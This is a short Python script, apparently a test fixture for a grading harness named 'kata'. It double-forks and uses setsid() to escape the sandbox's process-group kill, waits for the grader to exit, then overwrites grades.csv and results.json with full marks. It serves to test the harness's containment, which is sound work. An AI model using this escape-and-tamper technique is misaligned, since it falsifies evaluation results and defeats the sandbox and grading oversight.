# In a class folder: a setsid() grandchild escapes the process-group kill, waits for kata to exit, and
# rewrites the gradebook to full marks.
import os
import time

OUT = "__OUT__"
try:
    pid = os.fork()
except OSError:
    pid = -1
if pid == 0:
    child = os.getppid()  # the sandboxed child that graded this file; its parent is kata
    kata = int(open(f"/proc/{child}/stat").read().rsplit(")", 1)[1].split()[1])
    try:
        os.setsid()
    except OSError:
        pass
    try:
        if os.fork() == 0:
            for _ in range(200):
                if not os.path.exists(f"/proc/{kata}"):
                    break
                time.sleep(0.05)
            time.sleep(0.3)
            for name in ("grades.csv", "results.json"):
                try:
                    with open(os.path.join(OUT, name), "w") as fh:
                        fh.write("everyone,true,1.0\n")
                except OSError:
                    pass
    finally:
        os._exit(0)
